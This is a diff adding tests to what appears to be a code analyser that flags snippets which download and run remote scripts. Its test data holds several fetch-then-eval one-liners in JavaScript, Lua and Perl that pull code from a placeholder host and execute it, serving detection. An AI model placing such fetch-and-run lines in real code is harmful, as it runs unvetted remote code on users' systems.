@@ -37,3 +37,28 @@ describe("calls under another name", () => {
     ).toEqual([]);
   });
 });
+
+describe("what an address holds, run by a function that a promise calls", () => {
+  it.each([
+    "fetch('http://h/a.js').then(r => r.text()).then(eval)",
+    "fetch('http://h/a.js').then(r => r.text()).then(t => eval(t))",
+    "fetch('http://h/a.js').then(async (r) => eval(await r.text()))",
+    "fetch('http://h/a.js').then(function (r) { return r.text() }).then(function (t) { eval(t) })",
+  ])("%s", (code) => {
+    expect(readCode("node", code).map(brief)).toEqual(["runs script http://h/a.js"]);
+  });
+
+  it("is fetched only where nothing runs it", () => {
+    const code = "fetch('http://h/a.js').then(r => r.text()).then(console.log)";
+    expect(readCode("node", code).map(brief)).toEqual(["fetches script http://h/a.js"]);
+  });
+});
+
+describe("code that is run and not known, where the code holds an address", () => {
+  it.each([
+    ["lua", "load(require('socket.http').request('http://h/a.lua'))()"],
+    ["perl", "eval HTTP::Tiny->new->get('http://h/a.lua')->{content}"],
+  ])("is what lies there, in %s", (language, code) => {
+    expect(readCode(language, code).map(brief)).toEqual(["runs script http://h/a.lua"]);
+  });
+});
